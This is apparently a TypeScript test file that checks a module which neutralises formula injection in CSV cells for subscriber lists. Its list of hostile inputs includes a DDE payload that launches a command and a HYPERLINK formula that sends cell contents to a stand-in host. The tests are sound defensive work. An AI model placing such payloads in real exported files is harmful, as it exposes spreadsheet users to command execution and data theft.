import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { refusedLinesCsv } from '../../../src/subscribers/lists/refused-lines-csv.ts';
import {
  cleanAddress,
  escapeCell,
  neutraliseFormulas,
  withoutProtection,
} from '../../../src/subscribers/lists/tidy-cell.ts';

/** What a spreadsheet takes for the beginning of a formula. */
const FORMULA = /^[\s"'\u200b\u2060]*[=+\-@＝＋－＠\t\r]/;
const isComputed = (cell: string) => FORMULA.test(cell) && !cell.startsWith("'");

/** The cells of a row as a spreadsheet finds them that expects another separator, and takes no notice of quotes. */
const splitBy = (separator: string, row: string) => row.split(separator);
const SEPARATORS = [';', '\t', '|'];

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1',
  '\u00a0=1',
  '"=1',
  '""=1',
  ' " =1',
  "'=1",
  "''=1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://x.test?"&A2,"click")',
  'Ada;=1+1',
  'Ada; "=1+1',
  'Ada\t=1',
  'Ada|@SUM(A1)',
  'Ada\n=1',
  'Ada,=1',
  ';;=1',
  "Ada;'=1",
];

const HARMLESS = [
  'Zoë',
  "O'Hara",
  'Smith, Ann',
  'Anne-Marie',
  'a=b',
  "'t Hooft",
  'M; N',
  '1 + 1',
  '"Ann"',
  '',
];

describe('a cell for a spreadsheet', () => {
  test.each(HOSTILE)(
    'a spreadsheet cell computes nothing if a stranger writes %j, whatever the separator',
    (value) => {
      const [[cell = ''] = []] = parse(stringify([[neutraliseFormulas(value)]])) as string[][];
      expect(isComputed(cell)).toBe(false);
      for (const separator of SEPARATORS)
        for (const part of splitBy(separator, cell)) expect(isComputed(part)).toBe(false);
    },
  );

  test.each(HARMLESS)('a spreadsheet cell is unchanged if nothing would be computed: %j', (value) => {
    expect(neutraliseFormulas(value)).toBe(value);
  });

  const text = fc.oneof(
    fc.constantFrom(...HOSTILE, ...HARMLESS),
    fc.array(fc.constantFrom(...'=+-@;,|\'" \taé＝'), { maxLength: 12 }).map((letters) => letters.join('')),
    fc.string({ unit: 'grapheme', maxLength: 20 }),
  );

  test('a spreadsheet cell never computes anything, and is read back as it was', () => {
    fc.assert(
      fc.property(text, (any) => {
        const value = any.trim();
        const cell = neutraliseFormulas(value);
        for (const separator of SEPARATORS)
          for (const part of splitBy(separator, cell)) expect(isComputed(part)).toBe(false);
        expect(withoutProtection(cell)).toBe(value);
        expect(withoutProtection(escapeCell(value))).toBe(value);
      }),
      { numRuns: 2_000 },
    );
  });

  test.each(['+ada@x.test', '=ada@x.test', '-a@x.test', "o'hara@x.test", 'a|-b@x.test', "'=a@x.test"])(
    'a spreadsheet cell returns the address %s unchanged',
    (address) => {
      expect(cleanAddress(neutraliseFormulas(address))).toBe(address);
      expect(cleanAddress(escapeCell(address))).toBe(address);
    },
  );
});

test('a cell of a hundred thousand quotes and tabs is read at once', () => {
  const cell = "\t'".repeat(50_000);
  const begun = performance.now();
  for (const read of [withoutProtection, escapeCell, neutraliseFormulas, cleanAddress]) read(cell);
  expect(performance.now() - begun).toBeLessThan(2_000);
});

test('the refused lines of an import compute nothing, though their messages quote the list', () => {
  const csv = refusedLinesCsv([{ line: 2, message: '"=1+1" in Date; =2+2 is no date.' }]);
  const [, [line = '', message = ''] = []] = parse(csv) as string[][];
  expect(line).toBe('2');
  for (const part of splitBy(';', message)) expect(isComputed(part)).toBe(false);
});
